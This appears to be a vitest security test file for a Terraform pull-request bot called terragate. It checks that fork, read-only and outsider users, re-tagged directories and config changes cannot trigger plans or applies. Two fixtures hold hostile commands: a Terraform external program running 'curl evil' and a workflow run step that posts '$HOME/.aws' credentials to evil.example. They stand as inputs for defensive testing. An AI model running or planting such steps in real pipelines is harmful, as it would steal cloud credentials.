// Attacks on who may run: forks, read-only and outside users, re-tagged dirs, config changes, approvals, impostor checks.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { repoFullName } from "./payloads.ts";
import { comment, completePlan, createdNothing, manifests, refusal, sendPullRequest } from "./pr-helpers.ts";
import { createTestbed, openPullRequest, seedRepository, type Testbed } from "./testbed.ts";

let bed: Testbed;

beforeAll(async () => {
  bed = await createTestbed();
});
afterAll(async () => {
  await bed?.close();
});
beforeEach(async () => {
  await bed.reset();
});

const lockOwners = async () =>
  (
    await bed.database.client.sql<{ dir: string; number: number }[]>`
      select l.dir, p.number from locks l join pull_requests p on p.id = l.pull_request_id order by l.dir`
  ).map((row) => `${row.dir}#${row.number}`);

/** Opens a PR by `author`, lets autoplan run, and completes that plan successfully. */
async function openAndPlan(number: number, changed: Record<string, string>, author = "alice") {
  const pull = openPullRequest(bed.github, { number, author, changed });
  await sendPullRequest(bed, "opened", pull);
  const plan = (await manifests(bed)).filter((manifest) => manifest.kind === "plan").at(-1)!;
  await completePlan(bed, plan.id, pull);
  return pull;
}

describe("pull requests from forks", () => {
  const fork = { id: 9999, fullName: "mallory/infra" };

  it("runs nothing for a fork by default: one comment, edited on every push, for admins' commands too", async () => {
    seedRepository(bed.github);
    bed.github.state.repo(repoFullName).permissions.set("mallory", "read");
    const pull = openPullRequest(bed.github, {
      number: 1,
      author: "mallory",
      headRepo: fork,
      changed: { "infra/a/main.tf": 'data "external" "x" { program = ["sh", "-c", "curl evil"] }' },
    });
    await sendPullRequest(bed, "opened", pull);
    bed.github.state.push(repoFullName, 1, { "infra/b/main.tf": "# more" });
    await sendPullRequest(bed, "synchronize", pull);
    const comments = bed.github.state.botComments(repoFullName, 1);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain("this PR comes from the fork `mallory/infra`");
    expect(comments[0]!.body).toContain(
      "an admin can set `fork_prs: allow` in `.terragate/config.yml` on `main`",
    );

    await comment(bed, 1, "terragate plan", "carol");
    await comment(bed, 1, "terragate apply-autoapprove", "carol");
    expect(bed.github.state.botComments(repoFullName, 1)).toHaveLength(1);
    await createdNothing(bed);
  });

  it("with fork_prs: allow on the default branch, runs only on the comment of someone allowed, never on push", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": "fork_prs: allow\n" });
    const pull = openPullRequest(bed.github, {
      number: 1,
      author: "mallory",
      headRepo: fork,
      changed: { "infra/a/main.tf": "#" },
    });
    await sendPullRequest(bed, "opened", pull);
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("PRs from forks are never planned on push");

    await comment(bed, 1, "terragate plan", "mallory");
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("@mallory may not plan `infra/a` (default)");

    await comment(bed, 1, "terragate plan", "bob");
    expect((await manifests(bed)).map((manifest) => [manifest.kind, manifest.requestedBy])).toEqual([
      ["plan", "bob"],
    ]);
    expect(bed.github.state.dispatches).toHaveLength(1);
  });

  it("a fork cannot turn fork_prs on with its own config", async () => {
    seedRepository(bed.github);
    const pull = openPullRequest(bed.github, {
      number: 1,
      author: "mallory",
      headRepo: null,
      changed: { "infra/a/main.tf": "#", ".terragate/config.yml": "fork_prs: allow\n" },
    });
    await sendPullRequest(bed, "opened", pull);
    await comment(bed, 1, "terragate plan", "carol");
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("this PR comes from a fork that no longer exists");
  });
});

describe("safe defaults", () => {
  it("refuses plan and apply by a read-only commenter, says which role is needed, and creates nothing", async () => {
    seedRepository(bed.github);
    bed.github.state.repo(repoFullName).permissions.set("reader", "read");
    openPullRequest(bed.github, { number: 1, changed: { "infra/a/main.tf": "#" } });
    await comment(bed, 1, "terragate plan", "reader");
    expect(refusal(bed, 1)).toContain(
      "@reader may not plan `infra/a` (default); allowed: `role:write` (Terragate's default, as `.terragate/config.yml` on `main` has no `access_control`)",
    );
    await comment(bed, 1, "terragate apply", "reader");
    expect(refusal(bed, 1)).toContain("**Cannot apply**");
    expect(refusal(bed, 1)).toContain("@reader may not apply");
    await createdNothing(bed);
    expect(bed.github.state.botComments(repoFullName, 1)).toHaveLength(1);
  });

  it("gives nothing to a user with no access when there is no access_control, not even unlock", async () => {
    seedRepository(bed.github);
    await openAndPlan(1, { "infra/a/main.tf": "#" });
    await comment(bed, 1, "terragate apply", "alice");
    expect(await lockOwners()).toEqual(["infra/a#1"]);
    for (const command of ["terragate plan", "terragate apply-force", "terragate unlock"]) {
      await comment(bed, 1, command, "stranger");
      expect(refusal(bed, 1)).toContain("@stranger may not");
    }
    expect(await lockOwners()).toEqual(["infra/a#1"]);
    expect((await manifests(bed)).map((manifest) => manifest.kind)).toEqual(["plan", "apply"]);
  });

  it("does not autoplan for an author without write access, and says who could", async () => {
    seedRepository(bed.github);
    const pull = openPullRequest(bed.github, {
      number: 1,
      author: "outsider",
      changed: { "infra/a/main.tf": "#" },
    });
    await sendPullRequest(bed, "opened", pull);
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("**Cannot plan automatically** `infra/a` (default)");
    expect(refusal(bed, 1)).toContain("@outsider may not plan `infra/a` (default); allowed: `role:write`");
  });

  it("autoplans what the author may plan and lists what it skipped", async () => {
    seedRepository(bed.github, {
      ".terragate/config.yml": [
        "dirs: { infra/b: { tags: [prod] } }",
        "access_control:",
        "  policies:",
        "    - { tag_query: prod, plan: ['role:maintain'] }",
        "    - { tag_query: '', plan: ['role:write'] }",
      ].join("\n"),
    });
    const pull = openPullRequest(bed.github, {
      number: 1,
      changed: { "infra/a/main.tf": "#", "infra/b/main.tf": "#" },
    });
    await sendPullRequest(bed, "opened", pull);
    const [manifest] = await manifests(bed);
    const dirs = await bed.database.client.sql<{ dir: string }[]>`
      select dir from work_manifest_dirspaces where work_manifest_id = ${manifest!.id}`;
    expect(dirs.map((row) => row.dir)).toEqual(["infra/a"]);
    expect(refusal(bed, 1)).toContain("@alice may not plan `infra/b` (default); allowed: `role:maintain`");
  });
});

describe("tags come from the default branch", () => {
  const mainConfig = [
    "dirs: { infra/a: { tags: [prod] } }",
    "access_control:",
    "  policies:",
    "    - { tag_query: prod, plan: ['role:write'], apply: ['role:admin'], unlock: ['role:admin'] }",
    "    - { tag_query: '', plan: ['role:write'], apply: ['role:write'], unlock: ['role:write'] }",
  ].join("\n");
  const retag = "dirs: { infra/a: { tags: [sandbox] } }\n";

  it("a PR re-tagging a prod dir still needs the prod policy to apply it", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": mainConfig });
    await openAndPlan(1, { "infra/a/main.tf": "#", ".terragate/config.yml": retag });
    await comment(bed, 1, "terragate apply sandbox", "alice");
    expect(refusal(bed, 1)).toContain(
      "@alice may not apply `infra/a` (default); allowed: `role:admin` (`access_control.policies[0]` (tag_query `prod`)",
    );
    expect((await manifests(bed)).map((manifest) => manifest.kind)).toEqual(["plan"]);
    await comment(bed, 1, "terragate apply", "carol");
    expect(await lockOwners()).toEqual(["infra/a#1"]);
  });

  it("a PR re-tagging a prod dir cannot unlock it under a looser policy", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": mainConfig });
    await openAndPlan(1, { "infra/a/main.tf": "# one" });
    await comment(bed, 1, "terragate apply", "carol");
    expect(await lockOwners()).toEqual(["infra/a#1"]);
    await openAndPlan(2, { "infra/a/main.tf": "# two", ".terragate/config.yml": retag }, "bob");
    await comment(bed, 2, "terragate unlock 1", "bob");
    expect(refusal(bed, 2)).toContain("**Cannot unlock** `infra/a` (default)");
    expect(refusal(bed, 2)).toContain("allowed: `role:admin`");
    expect(await lockOwners()).toEqual(["infra/a#1"]);
  });

  it("a dir that exists only in the PR gets only its implicit tags", async () => {
    seedRepository(bed.github, {
      ".terragate/config.yml": [
        "access_control:",
        "  policies:",
        "    - { tag_query: 'dir:infra/new', plan: ['role:admin'] }",
        "    - { tag_query: sandbox, plan: ['role:write'] }",
      ].join("\n"),
    });
    const pull = openPullRequest(bed.github, {
      number: 1,
      changed: {
        "infra/new/main.tf": "#",
        ".terragate/config.yml": "dirs: { infra/new: { tags: [sandbox] } }\n",
      },
    });
    await sendPullRequest(bed, "opened", pull);
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("@alice may not plan `infra/new` (default); allowed: `role:admin`");
  });
});

describe("config_update", () => {
  const mainConfig = [
    "access_control:",
    "  policies:",
    "    - { tag_query: '', plan: ['role:write'], apply: ['role:write'], config_update: ['role:maintain'] }",
  ].join("\n");
  const evilConfig = [
    "workflows:",
    "  - tag_query: ''",
    "    plan: [{ type: run, cmd: [sh, -c, 'curl -d @$HOME/.aws evil.example'] }, { type: init }, { type: plan }]",
  ].join("\n");

  it("runs nothing for a PR that adds a run step when its author fails config_update, and names the file", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": mainConfig });
    const pull = openPullRequest(bed.github, {
      number: 1,
      changed: { "infra/a/main.tf": "#", ".terragate/config.yml": evilConfig },
    });
    await sendPullRequest(bed, "opened", pull);
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain(
      "this PR changes `.terragate/config.yml`, so running `infra/a` (default) needs `config_update`, which @alice lacks; allowed: `role:maintain`",
    );
    await comment(bed, 1, "terragate plan", "bob");
    await createdNothing(bed);

    // A maintainer who has read the change runs it.
    await comment(bed, 1, "terragate plan", "carol");
    const [manifest] = await manifests(bed);
    expect(manifest?.requestedBy).toBe("carol");
  });

  it("treats a change of the dispatched workflow file the same way", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": mainConfig });
    const pull = openPullRequest(bed.github, {
      number: 1,
      changed: { "infra/a/main.tf": "#", ".github/workflows/terragate.yml": "on: push" },
    });
    await sendPullRequest(bed, "opened", pull);
    await createdNothing(bed);
    expect(refusal(bed, 1)).toContain("this PR changes `.github/workflows/terragate.yml`");
  });
});

describe("approvals", () => {
  const requireApproval = "apply_requirements: { approved: { enabled: true } }\n";

  it("does not count an approval given before the last push, then counts a new one", async () => {
    seedRepository(bed.github, { ".terragate/config.yml": requireApproval });
    const pull = await openAndPlan(1, { "infra/a/main.tf": "# v1" });
    bed.github.state.approve(repoFullName, 1, "bob");
    const approved = pull.head.sha;
    // The author pushes after the approval and plans again.
    bed.github.state.push(repoFullName, 1, { "infra/a/main.tf": "# v2, unreviewed" });
    await sendPullRequest(bed, "synchronize", pull);
    await completePlan(bed, (await manifests(bed)).at(-1)!.id, pull);

    await comment(bed, 1, "terragate apply", "alice");
    expect(refusal(bed, 1)).toContain(
      `0 of 1 required approval (@bob approved \`${approved.slice(0, 7)}\`, before the last push; approvals count for the head commit \`${pull.head.sha.slice(0, 7)}\` only)`,
    );
    expect((await manifests(bed)).filter((manifest) => manifest.kind === "apply")).toEqual([]);

    bed.github.state.approve(repoFullName, 1, "bob");
    await comment(bed, 1, "terragate apply", "alice");
    expect((await manifests(bed)).filter((manifest) => manifest.kind === "apply")).toHaveLength(1);
  });

  it("blocks on changes requested by a listed approver until the review is dismissed", async () => {
    seedRepository(bed.github, {
      ".terragate/config.yml": "apply_requirements: { approved: { enabled: true, any_of: ['team:sre'] } }\n",
    });
    bed.github.state.addTeamMember("acme", "sre", "sue");
    bed.github.state.addTeamMember("acme", "sre", "sam");
    await openAndPlan(1, { "infra/a/main.tf": "#" });
    bed.github.state.approve(repoFullName, 1, "sue");
    bed.github.state.review(repoFullName, 1, "sam", "CHANGES_REQUESTED");
    bed.github.state.review(repoFullName, 1, "bystander", "CHANGES_REQUESTED");
    await comment(bed, 1, "terragate apply", "alice");
    const body = refusal(bed, 1)!;
    expect(body).toContain("@sam requested changes — get their approval or have the review dismissed");
    expect(body).not.toContain("bystander");
    expect((await manifests(bed)).filter((manifest) => manifest.kind === "apply")).toEqual([]);

    bed.github.state.dismissReviews(repoFullName, 1, "sam");
    await comment(bed, 1, "terragate apply", "alice");
    expect((await manifests(bed)).filter((manifest) => manifest.kind === "apply")).toHaveLength(1);
  });
});

describe("status checks", () => {
  it("does not ignore another app's failing check because its name starts with terragate", async () => {
    seedRepository(bed.github);
    const pull = await openAndPlan(1, { "infra/a/main.tf": "#" });
    const checks = bed.github.state.repo(repoFullName).checkRuns;
    checks.push({
      ...checks[0]!,
      id: bed.github.state.id(),
      name: "terragate plan: security scan",
      headSha: pull.head.sha,
      status: "completed",
      conclusion: "failure",
      appId: 666,
    });
    await comment(bed, 1, "terragate apply", "alice");
    expect(refusal(bed, 1)).toContain(
      "status checks are not green: `terragate plan: security scan (failure)`",
    );
    // This app's own queued plan check is not in the list.
    expect(refusal(bed, 1)).not.toContain("infra/a (default) (pending)");
  });
});
